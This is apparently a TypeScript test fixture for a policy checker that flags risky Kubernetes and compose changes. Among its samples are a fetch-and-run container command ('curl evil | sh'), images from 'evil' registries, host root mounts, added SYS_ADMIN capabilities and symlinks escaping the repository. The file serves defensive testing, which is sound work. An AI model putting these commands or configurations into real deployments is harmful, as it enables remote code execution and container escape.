import type { Files } from '../../../src/sandbox/index.ts';
import { deployment, privileged } from '../support/files.ts';
import { pod, service, type Trick, tricks } from './trick.ts';

/*
 * No privilege is added: somebody else gets what is there, the guard of a namespace goes, or files that were never
 * judged are taken in.
 */

const web = 'k8s/web.yaml';
const mighty = (image = 'acme/web:1'): Record<string, string> => ({
  [web]: deployment('web', { container: privileged, image }),
});
const mounted = (path: string): Files => ({
  [web]: deployment('web').replace(
    '      containers:',
    `      volumes: [{name: v, hostPath: {path: ${path}}}]\n      containers:`,
  ),
});
const granted = (list: string): Files => ({
  [web]: deployment('web').replace('drop: [ALL]', `add: [${list}]`),
});
const compose = (image: string): Files => ({ 'compose.yaml': service.replace('web:1', image) });

const handed = tricks('tells', [
  ['another image in a privileged container', mighty('evil/web:1'), mighty()],
  ['the same name in another registry', mighty('evil.example/acme/web:1'), mighty()],
  ['another image in a privileged service', compose('evil:1'), compose('web:1')],
]);

const commanded = (command: string): Files => ({
  [web]: deployment('web', { container: privileged }).replace(
    '          securityContext:\n            privileged',
    `          command: [${command}]\n          securityContext:\n            privileged`,
  ),
});

const started = tricks('tells', [
  ['another command in a privileged container', commanded('sh, -c, "curl evil | sh"'), commanded('web')],
  [
    'a command where there was none',
    commanded('sh'),
    { [web]: deployment('web', { container: privileged }) },
  ],
]);

const widened = tricks('fails', [
  ['a folder of the host that becomes the root of it', mounted('/'), mounted('/var/log/web')],
  ['one more capability', granted('NET_ADMIN, SYS_ADMIN'), granted('NET_ADMIN')],
  [
    'one more privileged container',
    { [web]: `${mighty()[web] ?? ''}${privilegedContainer('more')}` },
    mighty(),
  ],
]);

function privilegedContainer(name: string): string {
  return `\n        - name: ${name}\n          image: ${name}:1\n          securityContext:\n${privileged}`;
}

const namespace = (labels: Readonly<Record<string, string>>, name = 'shop'): Files => {
  const lines = Object.entries(labels).map(
    ([key, value]) => `    pod-security.kubernetes.io/${key}: ${value}\n`,
  );
  const all = lines.length === 0 ? '' : `  labels:\n${lines.join('')}`;
  return { 'k8s/ns.yaml': `apiVersion: v1\nkind: Namespace\nmetadata:\n  name: ${name}\n${all}` };
};
const guarded = namespace({ enforce: 'restricted' });

const unguarded = tricks('tells', [
  ['a Namespace that goes', { 'k8s/ns.yaml': null }, guarded],
  ['a Namespace that is called something else', namespace({ enforce: 'restricted' }, 'other'), guarded],
  [
    'an old version of the standards',
    namespace({ enforce: 'restricted', 'enforce-version': 'v1.0' }),
    guarded,
  ],
  ['a lower level', namespace({ enforce: 'baseline' }), guarded],
  ['a level that is only warned of', namespace({ warn: 'restricted' }), guarded],
]);

const unlabelled = tricks('warns', [
  ['a Namespace without its labels', namespace({}), guarded],
  ['a label that is misspelled', namespace({ enforced: 'restricted' }), guarded],
  [
    'labels that a kustomization sets no longer',
    { 'k8s/kustomization.yaml': 'resources: [ns.yaml]\n' },
    {
      ...namespace({}),
      'k8s/kustomization.yaml':
        'resources: [ns.yaml]\nlabels: [{pairs: {pod-security.kubernetes.io/enforce: restricted}}]\n',
    },
  ],
]);

const link = (content: string) => ({ content, mode: '120000' }) as const;
const bad = deployment('web', { container: privileged });

const linked = tricks('says', [
  ['a link to a page', { 'k8s/a.yaml': link('../docs/a.md') }, { 'docs/a.md': pod }],
  ['a link to a folder', { k8s: link('other') }, { 'other/a.yaml': pod }],
  [
    'a link to a folder that leads elsewhere',
    { k8s: link('b') },
    { k8s: link('a'), 'a/w.yaml': pod, 'b/w.yaml': bad },
  ],
  ['a link to a folder out of the repository', { k8s: link('../../etc') }],
  [
    'the templates of a chart by a link',
    { 'c/templates': link('../x') },
    { 'c/Chart.yaml': 'apiVersion: v2\nname: c\nversion: 1.0.0\n', 'x/p.yaml': pod },
  ],
]);

const replaced = tricks('fails', [
  [
    'a link to a folder in the place of manifests',
    { [web]: null, k8s: link('other') },
    { [web]: deployment('web'), 'other/web.yaml': bad },
  ],
]);

const kustomization = (resource: string): Files => ({
  'k8s/kustomization.yaml': `resources: [${resource}]\n`,
});

const taken = tricks('fails', [
  [
    'a manifest of vendor by a kustomization that was there',
    kustomization('../vendor/p.yaml'),
    { 'vendor/p.yaml': pod, 'k8s/kustomization.yaml': 'resources: []\n' },
  ],
  [
    'a manifest of vendor by a new kustomization',
    kustomization('../vendor/p.yaml'),
    { 'vendor/p.yaml': pod },
  ],
  [
    'a folder of vendor',
    kustomization('../vendor/x'),
    { 'vendor/x/p.yaml': pod, 'vendor/x/kustomization.yaml': 'resources: [p.yaml]\n' },
  ],
  [
    'what is called generated',
    kustomization('../gen/p.yaml'),
    { 'gen/p.yaml': pod, '.gitattributes': 'gen/** linguist-generated\n' },
  ],
  [
    'compose of vendor, by include',
    { 'compose.yaml': 'include: [vendor/c.yaml]\n' },
    { 'vendor/c.yaml': service },
  ],
  [
    'a Dockerfile of vendor, by compose',
    { 'compose.yaml': 'services: {a: {build: vendor/a, read_only: true}}\n' },
    { 'vendor/a/Dockerfile': 'FROM node:24\nCOPY . .\nCMD ["node", "a"]\n' },
  ],
  [
    'a JSON6902 patch with a value twice',
    {
      'k8s/kustomization.yaml':
        'resources: [web.yaml]\npatches:\n  - target: {kind: Deployment}\n    patch: |-\n      - {op: add, path: /spec/template/spec/hostPID, value: false, value: true}\n',
    },
    { [web]: deployment('web'), 'k8s/kustomization.yaml': 'resources: [web.yaml]\n' },
  ],
]);

const config = '.github/plimsoll.yml';
const excused = (until: string): Files => ({
  [config]: `waivers:\n  - {rule: privileged-container, path: "**", reason: because we can, until: ${until}}\n`,
});

const loosened = tricks('says', [
  ['a waiver that lasts longer', excused('2036-01-01'), excused('2027-06-01')],
  ['an old version of the standards', { [config]: 'pod-security: restricted@v1.0\n' }],
]);

const quiet = tricks('passes', [
  ['another version in a privileged container', mighty('acme/web:2'), mighty()],
  [
    'another image in a container like others',
    { [web]: deployment('web', { image: 'x:1' }) },
    { [web]: deployment('web') },
  ],
  [
    'a Namespace that goes with all that is in it',
    { 'k8s/ns.yaml': null, [web]: null },
    { ...guarded, [web]: deployment('web') },
  ],
  [
    'a newer version of the standards',
    guarded,
    namespace({ enforce: 'restricted', 'enforce-version': 'v1.30' }),
  ],
  ['a link to a folder of pages', { latest: link('docs') }, { 'docs/a.md': 'a\n' }],
  ['a version in a file', { VERSION: '1.2.3' }],
]);

export const handedOver: readonly Trick[] = [
  ...handed,
  ...started,
  ...widened,
  ...unguarded,
  ...unlabelled,
  ...linked,
  ...replaced,
  ...taken,
  ...loosened,
  ...quiet,
];
